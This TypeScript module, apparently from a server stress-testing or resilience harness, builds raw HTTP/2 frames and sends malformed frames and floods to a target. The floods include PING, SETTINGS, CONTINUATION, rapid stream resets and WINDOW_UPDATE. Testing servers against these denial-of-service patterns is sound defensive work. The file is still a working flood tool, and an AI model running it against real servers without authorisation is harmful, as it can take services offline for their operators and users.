// Connections of HTTP/2 that begin well and go on with frames that are malformed, or with floods of those that are answered.

import type { Attack, Counts } from '../attack.ts';
import { dial, pause } from '../http2-attackers.ts';

const EACH_MS = 50;
const START = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0), frame(4, 1, 0)]);
const REQUEST = Buffer.from([0x82, 0x84, 0x87]);

const BAD: Record<string, Buffer> = {
  data: frame(0, 0, 0, Buffer.from('data')),
  large: frame(0, 0, 1, Buffer.alloc(20_000)),
  settings: frame(4, 0, 0, Buffer.alloc(5)),
  ping: frame(6, 0, 0, Buffer.alloc(7)),
  fields: frame(1, 5, 1, Buffer.alloc(20, 0xff)),
  continuation: frame(9, 4, 1, Buffer.from([0x82])),
  padding: frame(0, 8, 1, Buffer.from([255, 1, 2])),
  pings: repeat(frame(6, 0, 0, Buffer.alloc(8)), 10_000),
  settingsFlood: repeat(frame(4, 0, 0), 10_000),
  continuations: Buffer.concat([
    frame(1, 0, 1, REQUEST),
    repeat(frame(9, 0, 1, Buffer.from([0x40, 1, 0x61, 1, 0x62])), 10_000),
  ]),
  resets: Buffer.concat(
    Array.from({ length: 5000 }, (_, i) =>
      Buffer.concat([frame(1, 5, 2 * i + 1, REQUEST), frame(3, 0, 2 * i + 1, Buffer.alloc(4))]),
    ),
  ),
  windows: repeat(frame(8, 0, 0, Buffer.from([0, 0, 0, 1])), 10_000),
};

export const attack: Attack = {
  name: 'E20 malformed frames of HTTP/2, and floods',
  async run(target, signal) {
    const counts: Counts = { refused: 0 };
    const open = new Set<Promise<void>>();
    const names = Object.keys(BAD);
    for (let at = 0; !signal.aborted; at++) {
      const name = names[at % names.length] as string;
      try {
        const socket = await dial(target, `malformed.${target.baseDomain}`);
        counts[name] = (counts[name] ?? 0) + 1;
        socket.resume().write(START);
        setTimeout(() => socket.write(BAD[name] as Buffer), 10);
        const closed = new Promise<void>((resolve) => void socket.once('close', () => resolve()));
        const timer = setTimeout(() => socket.destroy(), 2000);
        open.add(closed);
        void closed.then(() => {
          clearTimeout(timer);
          open.delete(closed);
        });
      } catch {
        counts.refused = (counts.refused ?? 0) + 1;
      }
      await pause(EACH_MS, signal);
    }
    await Promise.all(open);
    return counts;
  },
};

function repeat(bytes: Buffer, times: number): Buffer {
  return Buffer.alloc(bytes.length * times, bytes);
}

/** A frame of HTTP/2 (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
